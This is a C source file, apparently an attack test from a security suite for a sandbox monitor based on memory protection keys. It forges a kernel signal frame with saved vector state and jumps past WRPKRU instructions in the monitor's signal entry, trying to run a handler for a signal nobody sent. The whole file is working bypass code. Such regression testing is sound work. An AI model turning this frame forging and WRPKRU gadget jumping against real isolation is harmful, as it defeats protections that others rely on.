/*
 * S2: a jump behind the first store of the monitor's signal entry, with the signal, the siginfo and
 * the frame that a kernel would have left: a handler is to run for a signal that nobody sent.
 * Natively handlers believe whoever calls them.
 */
#include "attack.h"

#define FRAME_ALIGNMENT 64
#define MAGIC_VALUE     0x5a5a5a5a
#define IMAGE_EXTENDED  464 /* struct _fpx_sw_bytes, asm/sigcontext.h: in the FXSAVE area */

/* struct rt_sigframe, arch/x86/include/asm/sigframe.h: return address, ucontext, siginfo. */
#define FRAME_CONTEXT 8
#define FRAME_INFO    312
#define FRAME_SIZE    440
#define CONTEXT_KNOWN 296 /* the kernel's ucontext without its mask */

static const uint8_t wrpkru[] = {0x0f, 0x01, 0xef};

static bool monitored;
static struct report *report;
static uint8_t image[16384] __attribute__((aligned(64)));
static uint32_t image_size;
static uint8_t *open_end;

static void handler(int signo, siginfo_t *info, void *context)
{
    (void)context;
    if (signo == SIGUSR1 && info->si_value.sival_int == MAGIC_VALUE) {
        report->done = 1;
        for (;;) {
            __asm__ volatile("pause");
        }
    }
}

/* A real frame's vector state: the forged one has that, too. */
static void keep_image(int signo, siginfo_t *info, void *context)
{
    (void)signo;
    (void)info;
    const uint8_t *state = (const void *)((ucontext_t *)context)->uc_mcontext.fpregs;
    memcpy(&image_size, state + IMAGE_EXTENDED + 4, sizeof image_size);
    CHECK(image_size <= sizeof image, "vector state of %u bytes", image_size);
    memcpy(image, state, image_size);
}

/* The end of the part of the thread's area that is open to the program, below its block. */
static uint8_t *find_open_end(void)
{
    uint8_t *at = (uint8_t *)thread_block();
    int zeroes = MUST(open("/dev/zero", O_RDONLY | O_CLOEXEC));
    for (int i = 0; i < 64; i++) {
        at -= PAGE;
        if (read(zeroes, at, 1) == 1) {
            close(zeroes);
            return at + PAGE;
        }
    }
    CHECK(false, "no part of the area is open");
    return NULL;
}

/* RAX, RDI, RSI, R12, RSP: as signal_entry_keys has them behind its first stores. */
__asm__(".pushsection .text\n"
        "enter:\n" /* (signal, siginfo, context, stack, to) */
        "    mov %rdx, %r12\n"
        "    mov %rcx, %rsp\n"
        "    mov %rcx, %rbx\n"
        "    mov $0x55555540, %eax\n" /* all rights for the keys 0, 1 and 2 */
        "    xor %ecx, %ecx\n"
        "    xor %edx, %edx\n"
        "    jmp *%r8\n"
        ".popsection\n");
extern const uint8_t enter[] __attribute__((visibility("hidden")));

static void forge(uintptr_t to)
{
    size_t room = (image_size + FRAME_ALIGNMENT - 1) / FRAME_ALIGNMENT * FRAME_ALIGNMENT;
    uint8_t *state = open_end - room, *frame = state - FRAME_SIZE - FRAME_ALIGNMENT;
    siginfo_t info = {.si_signo = SIGUSR1, .si_code = SI_QUEUE};
    ucontext_t context;
    MUST(getcontext(&context));
    info.si_value.sival_int = MAGIC_VALUE;
    context.uc_flags = 7; /* UC_FP_XSTATE, UC_SIGCONTEXT_SS, UC_STRICT_RESTORE_SS */
    context.uc_mcontext.fpregs = (void *)state;
    context.uc_mcontext.gregs[REG_CSGSFS] = 0x2b000000000033;
    memcpy(state, image, image_size);
    memset(frame, 0, FRAME_SIZE);
    memcpy(frame + FRAME_CONTEXT, &context, CONTEXT_KNOWN);
    memcpy(frame + FRAME_INFO, &info, sizeof info);
    void (*entry)(int, uint8_t *, uint8_t *, uint8_t *, uintptr_t);
    const uint8_t *code = enter;
    memcpy(&entry, &code, sizeof entry);
    entry(SIGUSR1, frame + FRAME_INFO, frame + FRAME_CONTEXT, frame, to);
}

/* By a child, which may be ended for it, or go astray in the monitor. */
static bool is_believed(void (*attempt)(uintptr_t), uintptr_t to)
{
    report->done = 0;
    pid_t pid = MUST(fork());
    if (pid == 0) {
        alarm(monitored ? 20 : 0);
        attempt(to);
        _exit(0);
    }
    int status;
    while (waitpid(pid, &status, WNOHANG) == 0) {
        if (report->done) {
            MUST(kill(pid, SIGKILL));
            wait_for(pid);
            return true;
        }
        usleep(100);
    }
    return report->done;
}

static void call_handler(uintptr_t to)
{
    (void)to;
    siginfo_t info = {.si_signo = SIGUSR1, .si_code = SI_QUEUE};
    info.si_value.sival_int = MAGIC_VALUE;
    handler(SIGUSR1, &info, NULL);
}

int main(void)
{
    uintptr_t sites[32];
    report = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    handle(SIGUSR1, handler, 0);
    monitored = under_monitor();
    if (!monitored) {
        CHECK(is_believed(call_handler, 0), "a handler was not called");
        reached();
    }
    handle(SIGUSR2, keep_image, 0);
    MUST(raise(SIGUSR2));
    open_end = find_open_end();
    size_t count = find_in_image(wrpkru, sizeof wrpkru, sites, sizeof sites / sizeof sites[0]);
    CHECK(count > 0, "no WRPKRU was found");
    for (size_t i = 0; i < count; i++) {
        if (is_believed(forge, sites[i])) {
            reached();
        }
    }
    not_reached("closed");
}
